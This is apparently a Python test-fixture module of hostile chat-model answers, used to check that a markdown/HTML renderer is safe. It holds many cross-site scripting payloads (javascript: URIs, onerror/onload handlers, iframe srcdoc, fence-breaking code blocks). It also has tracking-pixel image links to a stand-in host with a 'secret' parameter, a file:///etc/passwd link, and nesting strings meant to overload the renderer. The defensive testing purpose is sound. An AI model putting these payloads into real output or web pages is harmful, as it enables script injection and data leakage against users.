"""Answers of a model that wants to run a script, to send something elsewhere, or to break the page."""

from typing import Final

ADDRESSES: Final = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "<java\tscript:alert(1)>",
    "<\x01javascript:alert(1)>",
    "< javascript:alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "blob:null/1",
    "file:///etc/passwd",
    "//elsewhere.test/spy",
    "/api/conversations",
    "#/c/another",
    "https:elsewhere.test",
    "view-source:http://elsewhere.test",
    "about:blank",
]
"""Where links and images must not lead."""

LINKS: Final = "\n\n".join(
    f"[link]({address})\n\n![image]({address})\n\n<{address.strip('<>')}>" for address in ADDRESSES
)

FOREIGN_IMAGES: Final = """
![a pixel](http://elsewhere.test/spy.png?secret=1 "title\\" onload=alert(1) x=\\"")

[![in a link](http://elsewhere.test/spy.png)](http://elsewhere.test/)

![by name][spy]

![](http://elsewhere.test/no-words.png)

![own](data:image/gif;base64,R0lGODlhAQABAAAAACw=)

<img src=http://elsewhere.test/spy.png>

[spy]: http://elsewhere.test/spy.png
"""

HTML: Final = """
<script>alert(1)</script>

<img src=x onerror=alert(1)>

<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>

<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

<base href="http://elsewhere.test/"><meta http-equiv="refresh" content="0; url=http://elsewhere.test/">

<link rel=stylesheet href=http://elsewhere.test/spy.css><style>@import "http://elsewhere.test/spy.css";</style>

<form action=http://elsewhere.test/><input autofocus onfocus=alert(1)></form>

<details open ontoggle=alert(1)><summary>x</summary></details>

<a href="javascript:alert(1)" id="composer" style="position:fixed;inset:0">everywhere</a>

<template shadowrootmode="open"><script>alert(1)</script></template>

`</code><script>alert(1)</script>`

[title](http://example.test "\\"><script>alert(1)</script>")

| <img src=x onerror=alert(1)> | b |
|---|:-:|
| <script>alert(1)</script> | x |
"""

CODE: Final = """
```"><img src=x onerror=alert(1)>
words
```

```html onclick=alert(1)
<script>alert(1)</script>
<img src=http://elsewhere.test/spy.png>
```

```__proto__
x
```

~~~python" style="color:red
print("</code></pre><script>alert(1)</script>")
~~~

```
never closed </code></pre></article><script>alert(1)</script>
"""

NESTED: Final = "> " * 300 + "deep\n\n" + "- " * 300 + "deeper\n\n" + "*" * 5000 + "[" * 5000 + "](x)" * 500

ODD_TEXT: Final = (
    "one\u2028two\u2029three \u202eesrever\u202c \ufeff\u200b\u0000\u0007\x1b[31m\r"
    "👩\u200d👩\u200d👧 e\u0301 \U000e0041 &#0; &#xD800; the end"
)

ANSWERS: Final = {
    "links": LINKS,
    "foreign images": FOREIGN_IMAGES,
    "html": HTML,
    "code": CODE,
    "nested": NESTED,
    "odd text": ODD_TEXT,
}
